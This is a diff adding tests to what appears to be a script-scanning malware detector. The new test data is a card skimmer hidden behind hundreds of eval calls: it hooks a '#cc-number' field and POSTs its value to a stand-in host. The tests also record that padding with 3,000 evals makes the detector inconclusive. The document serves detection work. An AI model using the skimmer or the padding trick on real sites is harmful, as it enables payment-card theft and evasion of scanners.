@@ -154,3 +154,11 @@ describe('a judgement', () => {
     expect(judgeScript('')).toMatchObject({ rulesVersion: '8', modelVersion: model.version })
   })
 })
+
+describe('code that runs many texts before the one that steals', () => {
+  const after = (count: number) =>
+    `for (var i = 0; i < ${count}; i++) eval('var a' + i + ' = ' + i); eval("document.querySelector('#cc-number').onchange = function () { fetch('https://kept.example/', { method: 'POST', body: this.value }) }")`
+
+  it('is found', () => expect(judgeScript(after(300)).verdict).toBe('malicious'))
+  it('is inconclusive if the texts are too many to follow', () => expect(judgeScript(after(3_000)).verdict).toBe('inconclusive'))
+})
